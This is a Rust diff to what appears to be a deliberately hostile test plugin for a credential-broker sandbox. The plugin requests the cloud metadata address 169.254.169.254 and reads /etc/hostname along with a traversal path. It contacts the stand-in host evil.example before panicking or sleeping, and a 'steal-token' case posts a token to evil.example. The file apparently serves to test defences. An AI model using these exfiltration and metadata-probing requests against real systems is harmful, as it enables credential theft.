@@ -9,6 +9,7 @@ use std::hint::black_box;
 use std::time::{Duration, SystemTime};
 
 const GRANTED: &str = "https://granted.example/";
+const GRANTED_FILE: &str = "/run/granted";
 
 /// The provider.
 #[derive(Debug, Default)]
@@ -27,12 +28,14 @@ impl Provider for Hostile {
                     "https://granted.example:8443".into(),
                     "https://localhost:9443".into(),
                     "https://wished.example".into(),
+                    "http://169.254.169.254".into(),
                 ],
                 audiences: vec!["hostile".into()],
                 environment: vec![
                     "GATEPASS_TEST_GRANTED".into(),
                     "GATEPASS_TEST_UNGRANTED".into(),
                 ],
+                files: vec![GRANTED_FILE.into(), "/etc/hostname".into()],
                 ..Wishes::default()
             },
             verbs: vec![
@@ -45,7 +48,11 @@ impl Provider for Hostile {
                 Verb::Cluster,
                 Verb::RestConfig,
             ],
-            sources: vec![SourceKind::SubjectToken, SourceKind::Ambient],
+            sources: vec![
+                SourceKind::SubjectToken,
+                SourceKind::Ambient,
+                SourceKind::Credential,
+            ],
             ..Description::default()
         }
     }
@@ -72,6 +79,8 @@ impl Provider for Hostile {
             "facts" if facts.is_none() => Err(Error::needs_facts()),
             "facts" => Ok(format!("{facts:?}")),
             "pure-egress" => pure_egress(),
+            // Each link of a chain but the one that leads back becomes another.
+            "link" => Ok(request.region.clone().unwrap_or_default()),
             "control-characters" => Err(Error::invalid_configuration("a\u{1b}[31mb\nc\0d")),
             _ => Ok("hostile".into()),
         }
@@ -149,6 +158,47 @@ impl Provider for Hostile {
                     .body(vec![b'x'; 1 << 20])
                     .build(),
             ),
+            "refused-then-panic" => {
+                let _ = host.send(egress::Request::get("https://evil.example/").build());
+                fall_over()
+            }
+            "refused-then-sleep" => {
+                let _ = host.send(egress::Request::get("https://evil.example/").build());
+                std::thread::sleep(Duration::from_secs(3600));
+                Err(Error::internal("awake"))
+            }
+            "echo-token" => {
+                let request = egress::Request::post(GRANTED).form_token("t").build();
+                let answer = host.send(request)?;
+                let body = String::from_utf8_lossy(answer.body()).into_owned();
+                Ok(Credential::bearer("t", hour).attribute("echo", body))
+            }
+            "files" => Ok([
+                GRANTED_FILE,
+                "/etc/hostname",
+                "/run/../run/granted",
+                "/run/other",
+            ]
+            .into_iter()
+            .fold(Credential::bearer("t", hour), |credential, path| {
+                let content = host.file(path).map_or_else(
+                    |error| format!("{:?}", error.kind()),
+                    |content| String::from_utf8_lossy(&content).into_owned(),
+                );
+                credential.attribute(path, content)
+            })),
+            "link" => {
+                let from = match &exchange.source {
+                    gatepass_sdk::Source::Credential(earlier) => match &earlier.material {
+                        Material::Bearer(token) => token.expose().to_owned(),
+                        Material::Aws(keys) => keys.access_key_id.clone(),
+                        other => format!("{other:?}"),
+                    },
+                    other => format!("{other:?}"),
+                };
+                let token = format!("{from}>{}", exchange.identity);
+                Ok(Credential::bearer(token, hour))
+            }
             "steal-token" => {
                 let request = egress::Request::post("https://evil.example/")
                     .form_token("t")
